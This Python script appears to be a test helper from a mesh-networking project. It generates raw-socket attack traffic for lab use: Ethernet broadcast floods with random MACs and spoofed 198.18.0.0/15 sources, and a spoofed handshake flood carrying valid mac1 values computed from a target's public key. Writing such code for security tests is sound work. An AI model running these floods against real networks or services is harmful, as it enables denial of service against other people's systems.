#!/usr/bin/env python3
# Raw-socket attack traffic for the security tests and benchmarks (run inside a lab namespace, as root).
#
#   rawsend.py eth-flood IFACE COUNT RATE
#       Ethernet broadcast frames (IPv4/UDP to 255.255.255.255:9) from random locally administered source MACs
#       and random source addresses in 198.18.0.0/15, as a guest flooding the segment would send them.
#   rawsend.py eth-flood-own IFACE COUNT RATE
#       the same frames, all from the interface's own MAC (a guest flooding broadcasts as itself).
#   rawsend.py hs-flood DST_IP DST_PORT PUBKEY_B64 RATE SECONDS
#       homewire handshake initiations (type 1, 148 bytes) with random Noise bytes and a VALID mac1 for the
#       responder's public key (BLAKE2b-128 keyed with BLAKE2b-256("homewire mac1" | key), as mesh/cookie.ts
#       computes it), from random spoofed sources in 198.18.0.0/15: what an attacker who knows a site's public
#       key can send. With PUBKEY_B64 "-" the mac1 is random (wrong).
# Prints "sent N in S s" on exit. Paced in bursts of 100 to the given rate (packets per second).
import base64
import hashlib
import os
import random
import signal
import socket
import struct
import sys
import time


def checksum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_udp(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    hdr = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack('!H', checksum(hdr)) + hdr[12:]
    udp = struct.pack('!HHHH', sport, dport, udp_len, 0)  # UDP checksum 0: none (IPv4)
    return hdr + udp + payload


def spoofed():
    return '198.%d.%d.%d' % (18 + random.getrandbits(1), random.getrandbits(8), 1 + random.randrange(254))


def pace(n, start, rate):
    if n % 100 == 0:
        ahead = n / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)


def eth_flood(iface, count, rate, own=False):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    mine = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
    start = time.monotonic()
    for n in range(count):
        if stopping:
            count = n
            break
        src_mac = mine if own else bytes([0x02]) + os.urandom(5)
        frame = b'\xff' * 6 + src_mac + b'\x08\x00' + ipv4_udp(spoofed(), '255.255.255.255', 9, 9, b'x' * 64)
        s.send(frame)
        pace(n + 1, start, rate)
    return count, time.monotonic() - start


stopping = False


def stop(_sig, _frame):
    global stopping
    stopping = True


def hs_flood(dst, port, pubkey_b64, rate, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    key = None
    if pubkey_b64 != '-':
        key = hashlib.blake2b(b'homewire mac1' + base64.b64decode(pubkey_b64), digest_size=32).digest()
    start = time.monotonic()
    n = 0
    while not stopping and time.monotonic() - start < seconds:
        body = b'\x01\0\0\0' + os.urandom(112)  # 116 bytes: header, sender index, Noise message 1
        mac1 = hashlib.blake2b(body, key=key, digest_size=16).digest() if key else os.urandom(16)
        msg = body + mac1 + b'\0' * 16
        s.sendto(ipv4_udp(spoofed(), dst, 1024 + random.getrandbits(15), port, msg), (dst, 0))
        n += 1
        pace(n, start, rate)
    return n, time.monotonic() - start


def main(argv):
    signal.signal(signal.SIGTERM, stop)  # SIGTERM ends the flood early; the count is still printed
    signal.signal(signal.SIGINT, stop)
    mode = argv[1]
    if mode in ('eth-flood', 'eth-flood-own'):
        n, secs = eth_flood(argv[2], int(argv[3]), float(argv[4]), mode == 'eth-flood-own')
    elif mode == 'hs-flood':
        n, secs = hs_flood(argv[2], int(argv[3]), argv[4], float(argv[5]), float(argv[6]))
    else:
        sys.exit('usage: rawsend.py eth-flood[-own] IFACE COUNT RATE | hs-flood DST PORT PUBKEY_B64|- RATE SECONDS')
    print('sent %d in %.2f s' % (n, secs), flush=True)


if __name__ == '__main__':
    main(sys.argv)
